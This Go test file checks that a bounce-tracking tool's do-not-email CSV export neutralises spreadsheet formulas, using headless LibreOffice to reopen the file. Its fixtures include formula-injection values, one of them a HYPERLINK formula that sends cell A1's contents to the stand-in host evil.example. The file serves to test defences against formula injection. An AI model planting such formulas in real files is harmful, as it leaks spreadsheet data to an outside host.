package export

import (
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bouncehound"
)

// TestLibreOffice: a spreadsheet that opens an export finds each cell in its column,
// as text, none of them a formula. It is asked to save what it has read as CSV again.
func TestLibreOffice(t *testing.T) {
	office := ""
	for _, name := range []string{"soffice", "libreoffice"} {
		if path, err := exec.LookPath(name); err == nil {
			office = path
			break
		}
	}
	if office == "" {
		t.Skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
	}
	at := time.Date(2026, 11, 21, 10, 0, 0, 0, time.UTC)
	contacts := []bouncehound.Contact{
		{Email: "lena@example.com", Reason: bouncehound.UserUnknown, Class: bouncehound.Hard, Status: "5.1.1", Diagnostic: `550 5.1.1 "lena", unknown; ask, please`,
			Bounces: 3, FirstBouncedAt: at, LastBouncedAt: at, Since: at, Cause: bouncehound.CauseBounce, Note: "Größe\nzweite Zeile", Standing: bouncehound.DoNotEmail},
		{Email: "=1+1@example.com", Diagnostic: "=HYPERLINK(\"http://evil.example/\"&A1)", Note: "@SUM(A1:A2)", Standing: bouncehound.DoNotEmail},
		{Email: "'quoted@example.com", Diagnostic: "-2+3", Note: "+49 89", Standing: bouncehound.OK},
	}
	dir := t.TempDir()
	out, err := os.Create(filepath.Join(dir, "list.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := DoNotEmail(out, Options{}, of(contacts...)); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	// Separator, quote, UTF-8, first line; as columns' formats none, so that it guesses
	// as it does when a person opens the file. The second filter saves formulas as such.
	cmd := exec.CommandContext(ctx, office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--infilter=CSV:44,34,76,1", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true", "--outdir", filepath.Join(dir, "saved"), out.Name())
	if text, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	saved, err := os.ReadFile(filepath.Join(dir, "saved", "list.csv"))
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(string(saved))).ReadAll()
	if err != nil || len(records) != 4 {
		t.Fatalf("%d records, %v\n%s", len(records), err, saved)
	}
	for i, name := range doNotEmailColumns {
		if records[0][i] != name.name {
			t.Errorf("column %d is %q, not %q", i+1, records[0][i], name.name)
		}
	}
	for i, c := range contacts {
		row := records[i+1]
		for column, want := range map[int]string{0: c.Email, 4: c.Diagnostic, 10: c.Note, 11: string(c.Standing)} {
			if got := row[column]; Undefuse(got) != want {
				t.Errorf("row %d, %s: %q, want %q", i+1, records[0][column], got, want)
			}
			if strings.HasPrefix(row[column], "=") {
				t.Errorf("row %d, %s is a formula: %q", i+1, records[0][column], row[column])
			}
		}
	}
	if records[1][3] != "5.1.1" || records[1][5] != "3" {
		t.Errorf("status %q and bounces %q", records[1][3], records[1][5])
	}
}
